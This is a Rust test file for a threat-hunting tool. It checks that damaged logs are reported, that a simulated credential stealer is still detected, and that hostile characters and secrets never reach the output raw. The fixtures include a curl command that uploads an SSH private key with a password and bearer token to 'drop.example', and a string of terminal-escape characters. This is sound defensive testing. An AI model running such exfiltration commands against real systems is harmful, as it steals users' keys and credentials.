//! Bad input is never fatal and never silent, and nothing in it acts on who reads the output.

use std::fs;
use std::io::Write as _;
use std::path::Path;

use crate::program::{hunt_json, render, render_trace, run};

const STEALER: &str = "a01-stealer-of-four-processes";

fn hunt(folder: &Path) -> crate::program::Said {
    run(&["hunt", "--format", "jsonl", folder.to_str().unwrap()])
}

/// Each kind of damage beside a good case: it is named with its file and offset, and the case is still found.
#[test]
fn damage_is_named_and_costs_nothing_else() {
    let gzip = |bytes: &[u8]| {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(bytes).unwrap();
        encoder.finish().unwrap()
    };
    let whole = gzip("{\"_path\":\"conn\"}\n".repeat(5_000).as_bytes());
    let mut utf16: Vec<u8> = vec![0xff, 0xfe];
    utf16.extend("{\"time\":1}\n".encode_utf16().flat_map(u16::to_le_bytes));
    let damages: Vec<(&str, Vec<u8>, &str, i32)> = vec![
        ("truncated.gz", whole[..whole.len() / 2].to_vec(), "damaged-compression", 4),
        ("half.ndjson", b"{\"schema_version\":1,\"event_ty".to_vec(), "truncated-record", 0),
        ("long.ndjson", vec![b'a'; 9 << 20], "oversized-record", 4),
        ("deep.ndjson", [vec![b'['; 100_000], b"\n".to_vec()].concat(), "too-deep", 4),
        ("text.txt", b"Dear diary\n".to_vec(), "malformed", 4),
        ("other.json", b"{\"hello\":\"world\"}\n".to_vec(), "unknown-format", 4),
        ("utf16.log", utf16, "utf-16", 4),
        ("logs.zip", b"PK\x03\x04 and more".to_vec(), "archive", 4),
        ("capture.pcap", vec![0xd4, 0xc3, 0xb2, 0xa1, 2, 0, 4, 0], "packet-capture", 4),
        ("random.bin", (0..40_000u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8).collect(), "malformed", 4),
    ];
    for (name, bytes, kind, code) in damages {
        let folder = tempfile::tempdir().unwrap();
        render_trace(STEALER, folder.path());
        fs::write(folder.path().join(name), bytes).unwrap();
        let said = hunt(folder.path());
        assert_eq!(said.code, Some(code), "{name}: {}", said.err);
        let line =
            said.err.lines().find(|line| line.contains(kind)).unwrap_or_else(|| panic!("{name}: {kind} is not named in\n{}", said.err));
        assert!(line.contains(name) && line.contains(':'), "{line}");
        assert_eq!(said.out.lines().count(), 1, "{name}: the case is still found");
        let strict = run(&["hunt", "--strict", folder.path().to_str().unwrap()]);
        assert_eq!(strict.code, Some(4), "{name}, strictly");
    }
}

#[test]
fn a_bad_byte_in_one_field_does_not_hide_the_thief() {
    let folder = tempfile::tempdir().unwrap();
    render_trace(STEALER, folder.path());
    let path = folder.path().join("mac1/es.ndjson");
    let text = fs::read(&path).unwrap();
    let mut spoiled = Vec::new();
    for line in text.split_inclusive(|&byte| byte == b'\n') {
        // Break a field that the analysis does not need, on every line.
        let line = String::from_utf8(line.to_vec()).unwrap();
        let at = line.find("\"signing_id\":\"").unwrap() + "\"signing_id\":\"".len();
        spoiled.extend_from_slice(&line.as_bytes()[..at]);
        spoiled.extend_from_slice(b"\xff\xfe\\ud800");
        spoiled.extend_from_slice(&line.as_bytes()[at..]);
    }
    fs::write(&path, spoiled).unwrap();
    let said = hunt(folder.path());
    assert!(said.err.contains("invalid-utf8") && said.err.contains("0 not understood"), "{}", said.err);
    assert!(said.out.contains("\"CRITICAL\""), "{}", said.out);
}

#[test]
fn nothing_usable_is_said_and_exits_with_5() {
    let folder = tempfile::tempdir().unwrap();
    let place = folder.path().to_str().unwrap();
    let empty = run(&["hunt", place]);
    assert_eq!((empty.code, empty.out.as_str()), (Some(5), ""), "{}", empty.err);
    assert!(empty.err.contains("cannot be seen") && empty.err.contains("read 0 records"), "{}", empty.err);
    fs::write(folder.path().join("empty.ndjson"), b"").unwrap();
    fs::write(folder.path().join("foreign.log"), b"hello\n").unwrap();
    assert_eq!(run(&["hunt", place]).code, Some(5));
    let missing = run(&["hunt", &format!("{place}/nowhere")]);
    assert_eq!(missing.code, Some(5));
    assert!(missing.err.contains("nowhere"), "{}", missing.err);
}

/// What only holds something else is named, with what to do, and ends with a code of its own, beside what was read.
#[test]
fn an_input_of_which_nothing_is_understood_is_named() {
    let folder = tempfile::tempdir().unwrap();
    render_trace("a42-old-connection-by-size", folder.path());
    assert_eq!(hunt(folder.path()).code, Some(0));
    fs::write(folder.path().join("other\u{1b}[31m.csv"), b"time,host\n1,2\n").unwrap();
    let said = hunt(folder.path());
    assert_eq!(said.code, Some(4), "{}", said.err);
    for part in ["what stands in 1 input, of which no record was understood: ", "other\\u{1b}[31m.csv", "no CSV)"] {
        assert!(said.err.contains(part), "{part}: {}", said.err);
    }
    fs::write(folder.path().join("archive.zip"), b"PK\x03\x04 and more").unwrap();
    let said = hunt(folder.path());
    assert!(said.err.contains("in 1 input, of which") && said.err.contains("in 1 input behind the faults"), "each once: {}", said.err);
}

/// Control, bidirectional and invisible characters in every text field.
const HOSTILE: &str = r"\u{1b}[2J\u{1b}]0;x\u{7}\u{202e}gpj\u{200b}\u{85}\u{0}";

#[test]
fn hostile_text_reaches_no_output_raw() {
    let folder = tempfile::tempdir().unwrap();
    let trace = format!(
        "host mac1\nprocess sh pid=400.20 parent=300.10 auid=501 platform com.apple.zsh /bin/zsh\n\
         10:00:00 fork sh -> 500\n\
         10:00:00.1 exec 500 adhoc \"id{HOSTILE}\" \"/private/tmp/x{HOSTILE}\" : \"/private/tmp/x{HOSTILE}\" \"https://drop.example/{HOSTILE}\"\n\
         10:00:01 read 500 \"/Users/ana/.ssh/id_{HOSTILE}\" size=400\n\
         10:00:02 flow \"C{HOSTILE}\" 10.0.0.5:5000 -> 203.0.113.9:443 tcp for 3s out=4000 in=9 service=ssl\n\
         10:00:02.1 tls \"C{HOSTILE}\" sni=drop.example\n"
    );
    render(&trace, folder.path());
    let place = folder.path().to_str().unwrap();
    let json = hunt_json(folder.path(), &[]);
    assert_eq!(json.len(), 1);
    assert!(json[0]["process"]["path"].as_str().unwrap().contains('\u{1b}'), "reading JSON gives the text back: {}", json[0]);
    let id = json[0]["id"].as_str().unwrap();
    for words in [vec!["hunt", "--format", "jsonl", place], vec!["hunt", "--format", "table", place], vec!["explain", id, place]] {
        let said = run(&words);
        let acts = |c: char| c != '\n' && tollgate_model::is_unsafe_to_show(c);
        let found: Vec<char> = said.out.chars().chain(said.err.chars()).filter(|&c| acts(c)).collect();
        assert!(found.is_empty(), "{words:?}: {found:?}");
    }
}

#[test]
fn secrets_in_arguments_come_out_nowhere() {
    let folder = tempfile::tempdir().unwrap();
    let secret = "hunter2-Tr0ub4dor-and-3";
    let trace = format!(
        "host mac1\nprocess sh pid=400.20 parent=300.10 auid=501 platform com.apple.zsh /bin/zsh\n\
         10:00:00 fork sh -> 500\n\
         10:00:00.1 exec 500 platform com.apple.curl /usr/bin/curl : curl -u ana:{secret} -H \"Authorization: Bearer {secret}\" -T /Users/ana/.ssh/id_rsa https://ana:{secret}@drop.example/?token={secret}\n\
         10:00:01 read 500 /Users/ana/.ssh/id_rsa size=400\n\
         10:00:01 flow C1 10.0.0.5:5000 -> 203.0.113.9:443 tcp for 3s out=4000 in=9 service=ssl\n\
         10:00:01.1 tls C1 sni=drop.example\n"
    );
    render(&trace, folder.path());
    let place = folder.path().to_str().unwrap();
    let json = hunt_json(folder.path(), &[]);
    let id = json[0]["id"].as_str().unwrap();
    for words in [vec!["hunt", "--format", "jsonl", place], vec!["hunt", "--format", "table", place], vec!["explain", id, place]] {
        let said = run(&words);
        assert!(!said.out.contains("Tr0ub4dor") && !said.err.contains("Tr0ub4dor"), "{words:?}\n{}", said.out);
    }
    let argv = json[0]["process"]["argv"].to_string();
    let marks: Vec<&str> = argv.matches("[redacted len=23 id=").collect();
    assert!(marks.len() >= 4, "{argv}");
}
